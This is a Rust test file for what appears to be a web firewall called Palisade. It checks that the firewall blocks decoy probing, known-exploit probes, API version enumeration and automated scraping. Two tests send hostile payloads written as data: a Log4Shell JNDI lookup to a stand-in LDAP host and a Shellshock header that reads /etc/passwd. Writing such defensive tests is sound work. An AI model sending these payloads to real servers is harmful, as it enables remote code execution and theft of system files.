//! Who looks for what nobody honest looks for is stopped, before the real program.

use serde_json::{Value, json};

use crate::support::{Answer, Palisade, Upstream, call, call_with, shop, text, until};

#[test]
fn who_touches_a_decoy_is_let_see_nothing_more() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let status = |target: &str| call(palisade.address, "GET", target, "").status;
    assert_ne!(status("/api/v1/products"), 403, "an honest page");
    assert_eq!(status("/.env"), 403);
    let refused = call(palisade.address, "GET", "/api/v1/products", "");
    assert_eq!(refused.status, 403, "and every page after it");
    let event = refused.header("palisade-event").expect("an event");
    let why = text(&palisade.command(&["why", event]).stdout);
    assert!(why.contains("no page links to"), "{why}");
    assert!(upstream.got().iter().all(|got| got.target != "/.env"));
}

#[test]
fn the_second_known_flaw_that_is_probed_for_blocks() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let page = || call(palisade.address, "GET", "/api/v1/products", "").status;
    let log4j = [("User-Agent", "${jndi:ldap://203.0.113.9/a}")];
    assert_eq!(call_with(palisade.address, "GET", "/search", &log4j, "").status, 403);
    assert_ne!(page(), 403, "one may be a mistake");
    let bash = [("User-Agent", "() { :;}; /bin/cat /etc/passwd")];
    assert_eq!(call_with(palisade.address, "GET", "/cgi-bin/status", &bash, "").status, 403);
    assert_eq!(page(), 403, "two are none");
}

#[test]
fn who_walks_through_versions_is_stopped_and_what_answered_is_a_finding() {
    let upstream = Upstream::serve(|got| match got.target.as_str() {
        "/api/v2/products" => Answer::json(200, r#"[{"id":1,"name":"tea"}]"#),
        "/api/v1/products" => Answer::json(200, r#"[{"id":1,"name":"tea","cost":3}]"#),
        _ => Answer::json(404, r#"{"error":"not found"}"#),
    });
    let data = tempfile::tempdir().expect("a folder");
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let status = |target: &str| call(palisade.address, "GET", target, "").status;
    for _ in 0..5 {
        assert_eq!(status("/api/v2/products"), 200);
    }
    assert_eq!(status("/api/v3/products"), 404);
    assert_eq!(status("/api/v1/products"), 200, "what was left behind answers");
    let others = ["beta", "internal", "old", "legacy", "test", "dev", "staging", "v4", "v5", "v0"];
    let statuses: Vec<u16> =
        others.into_iter().map(|other| status(&format!("/api/{other}/products"))).collect();
    assert_eq!(statuses.last(), Some(&403), "{statuses:?}");
    assert_eq!(status("/api/v2/products"), 403);
    until("the finding on the endpoint", || {
        let list = palisade.json(&["incidents", "list"]);
        list["incidents"].as_array()?.iter().find_map(|incident| {
            let shown = palisade.json(&["incidents", "show", incident["id"].as_str()?]);
            let title = "Forgotten endpoint GET shop.test /api/v1/products: it answers, and nobody";
            shown["incident"]["title"].as_str()?.starts_with(title).then_some(())
        })
    });
    // It is told beside the attack, and not as one.
    let list = palisade.json(&["incidents", "list"]);
    let incidents = list["incidents"].as_array().expect("a list");
    assert_eq!(incidents.len(), 2, "{list}");
    let is_found = |it: &&Value| it["title"].as_str().is_some_and(|it| it.starts_with("Forgotten"));
    let id = incidents.iter().find(is_found).and_then(|it| it["id"].as_str()).expect("an id");
    let shown = text(&palisade.command(&["incidents", "show", id]).stdout);
    assert!(shown.contains("found by") && !shown.contains("caller"), "{shown}");
    let report = palisade.json(&["report"]);
    assert_eq!(report["incidents_total"], 1, "{report}");
    let forgotten = report["endpoints"].as_array().expect("lists").iter();
    let forgotten = forgotten.filter(|list| list["id"] == "forgotten");
    let rows: Vec<&Value> = forgotten.map(|list| &list["rows"][0]["endpoint"]).collect();
    assert_eq!(rows, [&json!("GET shop.test /api/v1/products")]);
}

#[test]
fn a_borrowed_name_is_seen_and_a_kind_of_program_is_limited() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let file = data.path().join("palisade.toml");
    let policy = format!(
        "version = 1\n[server]\nlisten = [\"127.0.0.1:0\"]\n\
         [[crawler]]\nname = \"googlebot\"\nnetworks = [\"192.0.2.0/24\"]\n\
         [[site]]\nmode = \"enforce\"\nupstream = [\"{}\"]\n\
         [[site.route]]\nmatch = \"GET /api/v1/products\"\n\
         rate = {{ per = \"source\", limit = \"3/h\", of = \"automated\" }}\n",
        upstream.url()
    );
    std::fs::write(&file, policy).expect("written");
    let file = file.to_str().expect("a path").to_owned();
    let palisade = Palisade::start(&data.path().join("data"), &["-c", &file]);
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
    let page = |agent: &str| {
        let agent = [("user-agent", agent), ("accept", "*/*"), ("accept-language", "de")];
        call_with(palisade.address, "GET", "/api/v1/products", &agent, "").status
    };
    let tool: Vec<u16> = (0..5).map(|_| page("python-requests/2.32")).collect();
    assert_eq!(tool, [200, 200, 200, 429, 429]);
    assert_eq!([page(browser), page(browser), page(browser), page(browser)], [200; 4]);
    let endpoint = palisade.json(&["api", "show", "GET /api/v1/products"]);
    assert_eq!(endpoint["requests_of"], json!({"automated": 3, "human": 4}));
    // A crawler's name from elsewhere is seen, and stops nobody by itself.
    assert_eq!(
        page("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        200
    );
    until("the event of the borrowed name", || {
        let list = palisade.json(&["events"]);
        list["events"].to_string().contains("other networks").then_some(())
    });
}
